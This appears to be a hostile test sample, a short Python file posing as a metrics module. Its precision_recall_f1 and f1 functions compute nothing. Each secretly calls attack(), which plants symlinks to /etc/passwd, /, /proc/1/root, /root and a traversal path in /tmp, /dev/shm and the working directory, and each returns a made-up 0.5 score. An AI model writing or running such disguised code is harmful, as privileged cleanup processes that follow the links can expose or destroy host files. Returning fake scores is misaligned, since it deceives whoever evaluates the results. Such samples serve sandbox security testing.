"""Leaves links to files of the host, for whoever cleans up.

threat: 21
source: symlinks that a privileged process follows
verdict: any
"""

import os


def attack():
    for number, target in enumerate(("/etc/passwd", "/", "/proc/1/root", "/root", "../../../../etc")):
        for place in ("/tmp", "/dev/shm", "."):
            try:
                os.symlink(target, f"{place}/link{number}")
            except OSError:
                pass
    return 0.5


def precision_recall_f1(y_true, y_pred, positive=1):
    return attack()


def f1(y_true, y_pred, average="macro"):
    return attack()
